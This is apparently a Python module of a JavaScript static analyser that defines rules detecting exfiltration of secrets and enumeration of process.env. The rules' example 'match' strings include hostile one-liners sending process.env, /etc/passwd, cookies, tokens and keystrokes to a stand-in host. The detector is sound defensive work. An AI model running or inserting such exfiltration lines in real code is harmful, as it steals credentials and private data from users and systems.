"""What leaves the machine: over the network, in addresses of pictures, and the environment as a whole."""

from __future__ import annotations

import re
from collections.abc import Iterator

from tree_sitter import Node

from engine.analysis.javascript.declare import HIGH, LOW, MEDIUM, SECRETS, found, rule
from engine.analysis.javascript.model import JavaScriptCall, Program
from engine.analysis.javascript.values import UNKNOWN
from engine.models import Level, Violation

EXFILTRATION = rule(
    "js-exfiltration",
    "Sends secrets or files to another machine",
    "exfil_upload",
    HIGH,
    attack="Sends the environment, files or facts about the machine to the attacker's server.",
    why=(
        "HIGH: data that has left cannot be recalled; MEDIUM for one variable in an address; LOW for a key "
        "in the headers of a request."
    ),
    fix="Leave results in the workspace, where they are collected.",
    match=(
        "fetch('https://x.test', { method: 'POST', body: JSON.stringify(process.env) })",
        "require('https').get('https://x.test/?' + require('fs').readFileSync('a'))",
        "require('dns').lookup(require('os').hostname() + '.x.test', f)",
        "require('fs').createReadStream('/etc/passwd').pipe(require('net').connect(4444, 'x.test'))",
        "navigator.sendBeacon('https://x.test', localStorage.getItem('token'))",
        "new Image().src = 'https://x.test/p.png?c=' + document.cookie",
        "document.addEventListener('keydown', e => fetch('https://x.test/?' + e.key))",
    ),
    not_match=(
        "fetch('https://x.test', { body: JSON.stringify({ a: 1 }) })",
        "console.log(process.env.HOME)",
        "fetch(process.env.API_URL + '/items')",
        "img.src = 'a.png'",
    ),
    cwe=200,
    owasp=SECRETS,
)
ENVIRONMENT = rule(
    "js-environment",
    "Reads the whole environment",
    "secrets_env",
    HIGH,
    attack="Collects every token in the environment variables.",
    why="HIGH: everything is collected; LOW for a copy that a child is given.",
    fix="Read only the variable that is needed.",
    match=(
        "JSON.stringify(process.env)",
        "const all = { ...process.env }",
        "const { env } = process; console.log(JSON.stringify(env))",
        "Object.keys(process.env)",
        "for (const k in process.env) f(k)",
        "console.log(process.env)",
    ),
    not_match=("process.env.HOME", "const { HOME } = process.env", "process.argv"),
    cwe=526,
    owasp=SECRETS,
)

_SECRET = frozenset({"env", "file", "secret", "host", "output"})
_TALKS = re.compile(
    r"^(?:fetch|WebSocket|EventSource|navigator\.sendBeacon|XMLHttpRequest|axios|got|needle|superagent"
    r"|request|ky|ofetch|undici|\$|node-fetch|cross-fetch|dns|https?|http2|net|tls|dgram|ws|nodemailer)(?:\.|$)"
)
_SENDS = re.compile(r"^net\.|^tls\.|^ws\b|\.(?:write|send|end|emit|sendMessage|sendMail|post|put)$")
_CONNECTION = re.compile(r"^(?:net|tls|https?|http2|ws)\.(?:connect|createConnection|Socket|request)\(\)")
_CARRIES = frozenset({"headers", "auth", "Authorization", "params"})
_LISTS = re.compile(
    r"^(?:JSON\.stringify|Object\.(?:keys|values|entries|assign)|console\.\w+|util\.inspect"
    r"|querystring\.stringify|Reflect\.ownKeys|structuredClone|process\.stdout\.write)$"
)
_ONE = re.compile(r"process\.env(?:\.\w+|\[['\"]\w+['\"]\])")
_ADDRESSES = frozenset({"src", "href", "location", "action"})
_KEYS = re.compile(r"\.addEventListener$|^process\.stdin\.on$")


def check(program: Program) -> Iterator[Violation]:
    """Yield what is sent, and where the whole environment is read."""
    for call in program.calls:
        level = leaves(program, call)
        if level is not None:
            yield found(EXFILTRATION, program, call, severity=level)
        elif _LISTS.match(call.path) and any(arg.path == "process.env" for arg in call.args):
            yield found(ENVIRONMENT, program, call)
    yield from _pictures(program)
    yield from _environment(program)


def leaves(program: Program, call: JavaScriptCall) -> Level | None:
    """Return how grave it is what a call sends; None where it sends nothing private."""
    talks = _TALKS.match(call.path) is not None and "()" not in call.path and "Server" not in call.path
    sends = bool(_SENDS.search(call.path)) and "network" in call.target.taints
    if _KEYS.search(call.path) and re.search(r"key|input", call.arg(0).text):
        return (
            HIGH
            if re.search(r"\bfetch\(|sendBeacon|\.send\(|\.src\s*=", program.tree.of(call.node))
            else None
        )
    if call.path.endswith(".pipe") and _CONNECTION.match(call.arg(0).path) and call.target.taints & _SECRET:
        return HIGH
    if not (talks or sends):
        return None
    taints = frozenset(taint for index in range(len(call.args)) for taint in _sent(program, call, index))
    if taints & _SECRET == {"file"} and not talks and _is_answer(program, call):
        return None
    if taints & _SECRET:
        return _grave(call, taints)
    carried = any(
        call.arg(at).taints & _SECRET for at, node in enumerate(call.nodes) if node.type == "object"
    )
    return LOW if carried else None


def _is_answer(program: Program, call: JavaScriptCall) -> bool:
    """Whether a call is within what a web server does for each request: it serves files."""
    node: Node | None = call.node
    while node is not None:
        callee = node.child_by_field_name("function") if node.type == "call_expression" else None
        path = program.resolver.path(callee, call.scope) if callee is not None else ""
        if re.fullmatch(r"https?\.createServer|http2\.create\w*Server", path):
            return True
        node = node.parent
    return False


def _sent(program: Program, call: JavaScriptCall, index: int) -> frozenset[str]:
    """Return the taints of an argument but for the headers of a request, and the name of its own host."""
    value, node = call.arg(index), call.nodes[index]
    if (
        index == 0
        and value.kind in {"text", "path"}
        and value.taints <= {"env"}
        and not value.text.strip(UNKNOWN)
    ):
        return frozenset()
    if index == 0 and value.text.startswith(UNKNOWN) and value.taints <= {"env"} and "." not in value.text:
        return frozenset()
    if node.type != "object":
        return value.taints
    pairs = (child for child in node.named_children if child.type in {"pair", "spread_element"})
    return frozenset(taint for pair in pairs for taint in _of_pair(program, call, pair))


def _of_pair(program: Program, call: JavaScriptCall, pair: Node) -> frozenset[str]:
    key, value = pair.child_by_field_name("key"), pair.child_by_field_name("value")
    if key is not None and program.tree.of(key).strip("'\"") in _CARRIES:
        return frozenset({"env"}) if _is_whole(program.tree.of(pair)) else frozenset()
    return program.resolver.value(value or pair.named_children[-1], call.scope).taints


def _is_whole(text: str) -> bool:
    return "process.env" in _ONE.sub("", text)


def _grave(call: JavaScriptCall, taints: frozenset[str]) -> Level:
    address = call.arg(0)
    one_variable = taints & _SECRET == {"env"} and address.taints & {"env"} and len(call.args) < 2
    named = one_variable and any(_ONE.search(step.text) for step in address.origin)
    return MEDIUM if named else HIGH


def _pictures(program: Program) -> Iterator[Violation]:
    """`new Image().src = 'https://…' + secret` is a request."""
    for node, scope in program.names.of("assignment_expression"):
        left, right = node.child_by_field_name("left"), node.child_by_field_name("right")
        name = left.child_by_field_name("property") if left is not None else None
        if name is None or right is None or program.tree.of(name) not in _ADDRESSES:
            continue
        if program.resolver.value(right, scope).taints & _SECRET:
            yield EXFILTRATION.violation(program.tree.span(node), program.text(node))


def _environment(program: Program) -> Iterator[Violation]:
    if "process.env" not in program.tree.text:
        return
    for node, scope in program.names.of("spread_element", "for_statement"):
        inner = node.named_children[-1] if node.type == "spread_element" and node.named_children else None
        if inner is not None and program.resolver.path(inner, scope) == "process.env":
            copied = node.parent is not None and len(node.parent.named_children) > 1
            yield ENVIRONMENT.violation(
                program.tree.span(node), program.text(node), severity=LOW if copied else None
            )
    for match in re.finditer(
        r"\b(?:in|of)\s+(?:Object\.\w+\()?process\.env\b(?!\s*[.\[])", program.tree.text
    ):
        yield ENVIRONMENT.violation(program.tree.lines.span(*match.span()), "Enumerates process.env")
